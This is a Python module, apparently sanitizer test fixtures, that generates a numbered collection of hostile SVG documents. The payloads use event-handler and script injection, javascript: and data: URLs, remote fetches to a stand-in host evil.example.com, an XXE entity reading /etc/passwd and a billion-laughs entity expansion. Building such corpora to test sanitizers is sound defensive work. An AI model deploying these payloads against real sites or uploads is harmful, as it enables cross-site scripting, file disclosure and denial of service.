"""Drawings that would act: every way in which an SVG runs a script or fetches something, told apart by a number."""

from collections.abc import Iterator
from typing import Final

EVIL: Final = "http://evil.example.com"
_NS: Final = (
    'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="20"'
)
_HANDLERS: Final = (
    "onload", "onclick", "onerror", "onmouseover", "onfocus", "onfocusin", "onbegin", "onend", "onrepeat",
    "onactivate", "onunload", "onscroll", "onzoom", "onanimationstart", "ontransitionend", "onpointerenter",
)  # fmt: skip
_ELEMENTS: Final = (
    "<script>alert({n})</script>",
    "<script href='{e}/{n}.js'/>",
    "<script xlink:href='data:text/javascript,alert({n})'/>",
    "<script type='module'>import '{e}/{n}.js'</script>",
    "<handler type='text/javascript'>alert({n})</handler>",
    "<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'><script>alert({n})</script></body></foreignObject>",
    "<foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='alert({n})'/></foreignObject>",
    "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert({n})'/></foreignObject>",
    "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&lt;script&gt;alert({n})&lt;/script&gt;'/></foreignObject>",
    "<foreignObject width='9' height='9'><form xmlns='http://www.w3.org/1999/xhtml' action='{e}/{n}'><input autofocus='' onfocus='alert({n})'/></form></foreignObject>",
    "<foreignObject width='9' height='9'><meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url={e}/{n}'/></foreignObject>",
    "<foreignObject width='9' height='9'><object xmlns='http://www.w3.org/1999/xhtml' data='{e}/{n}.svg'/></foreignObject>",
    "<foreignObject width='9' height='9'><embed xmlns='http://www.w3.org/1999/xhtml' src='{e}/{n}.svg'/></foreignObject>",
    "<foreignObject width='9' height='9'><link xmlns='http://www.w3.org/1999/xhtml' rel='stylesheet' href='{e}/{n}.css'/></foreignObject>",
    "<image href='{e}/{n}.png' width='9' height='9'/>",
    "<image xlink:href='{e}/{n}.png' width='9' height='9'/>",
    "<image href='data:image/svg+xml,&lt;svg xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;alert({n})&quot;/&gt;' width='9' height='9'/>",
    "<feImage href='{e}/{n}.png'/>",
    "<filter id='f'><feImage xlink:href='{e}/{n}.svg#x'/></filter><rect filter='url(#f)' width='9' height='9'/>",
    "<use href='{e}/{n}.svg#x'/>",
    "<use xlink:href='data:image/svg+xml,&lt;svg id=&quot;x&quot; xmlns=&quot;http://www.w3.org/2000/svg&quot;&gt;&lt;script&gt;alert({n})&lt;/script&gt;&lt;/svg&gt;#x'/>",
    "<a href='javascript:alert({n})'><rect width='60' height='20'/></a>",
    "<a xlink:href='java&#10;script:alert({n})'><rect width='60' height='20'/></a>",
    "<a href='data:text/html,&lt;script&gt;alert({n})&lt;/script&gt;'><rect width='60' height='20'/></a>",
    "<a href='{e}/{n}' target='_top'><rect width='60' height='20'/></a>",
    "<style>@import url('{e}/{n}.css');</style>",
    "<style>rect{{fill:url('{e}/{n}.svg#a')}}</style><rect width='9' height='9'/>",
    "<style>@font-face{{font-family:x;src:url({e}/{n}.woff)}}text{{font-family:x}}</style><text>x</text>",
    "<style>rect{{background-image:url({e}/{n}.png)}}</style><rect width='9' height='9'/>",
    "<style>svg[id^='a']{{cursor:url({e}/{n}.cur),auto}}</style>",
    "<style>rect{{behavior:url(#default#x);-moz-binding:url({e}/{n}.xml#x)}}</style>",
    "<style>&lt;/style&gt;&lt;script&gt;alert({n})&lt;/script&gt;</style>",
    "<rect width='9' height='9' style='fill:url({e}/{n}.svg#a)'/>",
    "<rect width='9' height='9' style=\"mask:url('{e}/{n}.svg#m')\"/>",
    "<rect width='9' height='9' fill='url({e}/{n}.svg#a)'/>",
    "<rect width='9' height='9' filter='url({e}/{n}.svg#a)'/>",
    "<rect width='9' height='9' clip-path='url({e}/{n}.svg#a)'/>",
    "<rect width='9' height='9' mask='url({e}/{n}.svg#a)'/>",
    "<path d='M0 0L9 9' marker-end='url({e}/{n}.svg#a)'/>",
    "<rect cursor='url({e}/{n}.cur)' width='60' height='20'/>",
    "<linearGradient id='g' href='{e}/{n}.svg#g'/><rect fill='url(#g)' width='9' height='9'/>",
    "<pattern id='p' xlink:href='{e}/{n}.svg#p'/><rect fill='url(#p)' width='9' height='9'/>",
    "<textPath href='{e}/{n}.svg#t'>x</textPath>",
    "<mpath href='{e}/{n}.svg#t'/>",
    "<set attributeName='onload' to='alert({n})' begin='0s'/>",
    "<a><rect width='60' height='20'/><set attributeName='href' to='javascript:alert({n})'/></a>",
    "<a><rect width='60' height='20'/><animate attributeName='href' values='javascript:alert({n})' begin='0s' fill='freeze'/></a>",
    "<animate attributeName='x' onbegin='alert({n})' begin='0s' dur='1s'/>",
    "<image width='9' height='9'><set attributeName='href' to='{e}/{n}.png'/></image>",
    "<animateTransform attributeName='transform' onend='alert({n})' begin='0s' dur='1ms'/>",
    "<iframe xmlns='http://www.w3.org/1999/xhtml' src='{e}/{n}'/>",
    "<img xmlns='http://www.w3.org/1999/xhtml' src='{e}/{n}.png'/>",
    "<video xmlns='http://www.w3.org/1999/xhtml' src='{e}/{n}.mp4' autoplay=''/>",
    "<audio xmlns='http://www.w3.org/1999/xhtml' src='{e}/{n}.mp3' autoplay=''/>",
    "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert({n})</h:script>",
    "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert({n})</x:script>",
    "<switch><foreignObject><script xmlns='http://www.w3.org/1999/xhtml'>alert({n})</script></foreignObject></switch>",
    "<metadata><script>alert({n})</script></metadata>",
    "<desc><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='alert({n})'/></desc>",
    "<title>&lt;script&gt;alert({n})&lt;/script&gt;</title>",
    "<discard onbegin='alert({n})'/>",
    "<cursor xlink:href='{e}/{n}.cur'/>",
    "<font-face-uri xlink:href='{e}/{n}.svg#f'/>",
    "<color-profile xlink:href='{e}/{n}.icc'/>",
    "<tref xlink:href='{e}/{n}.svg#t'/>",
)
_WHOLE: Final = (
    "<?xml version='1.0'?><?xml-stylesheet href='{e}/{n}.css' type='text/css'?><svg {ns}><rect width='9' height='9'/></svg>",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert({n})' type='text/xsl'?><svg {ns}/>",
    "<!DOCTYPE svg SYSTEM '{e}/{n}.dtd'><svg {ns}><rect width='9' height='9'/></svg>",
    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg {ns}><text>&x;</text></svg>",
    "<!DOCTYPE svg [<!ENTITY a '<script xmlns=\"http://www.w3.org/2000/svg\">alert({n})</script>'>]><svg {ns}>&a;</svg>",
    "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]><svg {ns}><text>&c;</text></svg>",
    "\ufeff<svg {ns} onload='alert({n})'/>",
    "<svg {ns} xml:base='{e}/'><image href='{n}.png' width='9' height='9'/></svg>",
)


def drawings() -> Iterator[str]:
    """Every hostile drawing."""
    number = 0
    for handler in _HANDLERS:
        number += 1
        yield f"<svg {_NS} {handler}='alert({number})'><rect width='60' height='20' {handler}='alert({number})'/></svg>"
    for element in _ELEMENTS:
        number += 1
        yield f"<svg {_NS}>{element.format(n=number, e=EVIL)}</svg>"
    for whole in _WHOLE:
        number += 1
        yield whole.format(n=number, e=EVIL, ns=_NS)
